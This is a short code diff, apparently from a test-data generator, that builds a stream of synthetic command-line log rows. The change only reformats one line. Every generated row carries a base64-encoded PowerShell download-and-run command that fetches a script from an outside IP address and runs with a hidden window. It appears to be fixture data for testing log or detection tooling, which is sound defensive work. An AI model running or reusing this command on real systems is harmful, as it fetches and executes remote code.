@@ -108,7 +108,9 @@ export const COMMAND_LINE_HEADER = "timestamp,hostname,src_ip,pid,cmdline";
  */
 export function commandLineExport(rows: number, chunkBytes = 64 * 1024): Readable {
   const start = Date.UTC(2024, 2, 1);
-  const payload = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.34:8443/a.ps1'); ".repeat(8)).toString("base64");
+  const payload = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.34:8443/a.ps1'); ".repeat(8)).toString(
+    "base64",
+  );
   const row = (i: number) =>
     `${new Date(start + i * 1000).toISOString().slice(0, 19).replace("T", " ")},WS-${String(i % 20).padStart(4, "0")},10.0.0.${i % 50},${1000 + (i % 60000)},powershell.exe -nop -w hidden -enc ${payload}\n`;
   let next = 0;
